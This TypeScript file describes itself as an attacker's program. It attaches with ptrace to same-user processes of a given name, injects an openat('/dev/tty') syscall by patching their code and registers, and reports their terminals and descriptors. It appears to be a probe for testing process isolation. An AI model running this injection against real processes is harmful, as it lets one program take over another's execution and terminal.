/**
 * An attacker's program: `terminal-thief NAME` traces each process called NAME that it may trace, and opens /dev/tty in it.
 * Prints "ready", then a JSON line for each: what openat(2) returned there, the controlling terminal, and the descriptors.
 */

import { dlopen, FFIType, ptr } from "bun:ffi";
import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, statSync, writeSync } from "node:fs";

const [name = ""] = process.argv.slice(2);
const REQUEST = { singleStep: 9, attach: 16, detach: 17, getRegisters: 0x4204, setRegisters: 0x4205 } as const;
const NT_PRSTATUS = 1;
const ALL_CHILDREN = 0x40000000;
const AT_FDCWD = BigInt.asUintN(64, -100n);
const O_RDWR = 2n;
/** How a machine makes one system call: its number, the places of registers, and the instruction. */
const MACHINE =
  process.arch === "arm64"
    ? { openat: 56n, registers: 34, number: 8, args: [0, 1, 2], result: 0, pc: 32, sp: 31, code: [1, 0, 0, 0xd4] }
    : { openat: 257n, registers: 27, number: 10, args: [14, 13, 12], result: 10, pc: 16, sp: 19, code: [0x0f, 0x05] };
/** Of x86-64: -1 there keeps the kernel from restarting the call that was interrupted. */
const ORIGINAL_NUMBER = 15;

const { symbols: libc } = dlopen("libc.so.6", {
  ptrace: { args: [FFIType.i64, FFIType.i64, FFIType.u64, FFIType.ptr], returns: FFIType.i64 },
  waitpid: { args: [FFIType.i32, FFIType.ptr, FFIType.i32], returns: FFIType.i32 },
});

const seen = new Set<number>();
console.log("ready");
for (;;) {
  for (const pid of victims()) {
    if (Number(libc.ptrace(REQUEST.attach, pid, 0, null)) !== 0) continue;
    seen.add(pid);
    libc.waitpid(pid, null, ALL_CHILDREN);
    const found = { pid, terminal: terminalOf(pid), descriptors: descriptorsOf(pid), opened: openTerminalIn(pid) };
    libc.ptrace(REQUEST.detach, pid, 0, null);
    console.log(JSON.stringify(found));
  }
}

function victims(): readonly number[] {
  const pids = readdirSync("/proc").filter((entry) => /^\d+$/.test(entry));
  return pids.map(Number).filter((pid) => pid !== process.pid && !seen.has(pid) && isVictim(pid));
}

function isVictim(pid: number): boolean {
  try {
    if (statSync(`/proc/${pid}`).uid !== process.getuid?.()) return false;
    return readFileSync(`/proc/${pid}/comm`, "utf8").trim() === name;
  } catch {
    return false;
  }
}

/** proc(5), tty_nr: 0 without a controlling terminal. */
function terminalOf(pid: number): number {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[4]);
}

function descriptorsOf(pid: number): readonly string[] {
  return readdirSync(`/proc/${pid}/fd`).map((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`));
}

/** What open("/dev/tty") returns in the stopped process, which is then as it was before. */
function openTerminalIn(pid: number): number {
  const memory = openSync(`/proc/${pid}/mem`, "r+");
  const before = registersOf(pid);
  const registers = before.slice();
  const code = Buffer.from(MACHINE.code);
  const there = Buffer.alloc(code.length);
  const at = Number(before[MACHINE.pc]);
  const room = Number(before[MACHINE.sp]) - 4096;
  readSync(memory, there, 0, there.length, at);
  writeSync(memory, code, 0, code.length, at);
  writeSync(memory, Buffer.from("/dev/tty\0"), 0, 9, room);
  const values = [AT_FDCWD, BigInt(room), O_RDWR];
  for (const [index, place] of MACHINE.args.entries()) registers[place] = values[index] ?? 0n;
  registers[MACHINE.number] = MACHINE.openat;
  if (process.arch !== "arm64") registers[ORIGINAL_NUMBER] = BigInt.asUintN(64, -1n);
  setRegisters(pid, registers);
  // A stop that was pending comes first: then the call is still to be made.
  const isMade = () => Number(registersOf(pid)[MACHINE.pc]) !== at;
  for (let again = 0; again < 20 && (again === 0 || !isMade()); again++) {
    libc.ptrace(REQUEST.singleStep, pid, 0, null);
    libc.waitpid(pid, null, ALL_CHILDREN);
  }
  const result = Number(BigInt.asIntN(64, registersOf(pid)[MACHINE.result] ?? 0n));
  writeSync(memory, there, 0, there.length, at);
  setRegisters(pid, before);
  closeSync(memory);
  return result;
}

function registersOf(pid: number): BigUint64Array {
  const registers = new BigUint64Array(MACHINE.registers);
  move(REQUEST.getRegisters, pid, registers);
  return registers;
}

function setRegisters(pid: number, registers: BigUint64Array): void {
  move(REQUEST.setRegisters, pid, registers);
}

/** ptrace(2) takes the registers by an iovec(3). */
function move(request: number, pid: number, registers: BigUint64Array): void {
  const vector = new BigUint64Array([BigInt(ptr(registers)), BigInt(registers.byteLength)]);
  if (Number(libc.ptrace(request, pid, NT_PRSTATUS, ptr(vector))) !== 0)
    throw new Error("The registers cannot be moved");
}
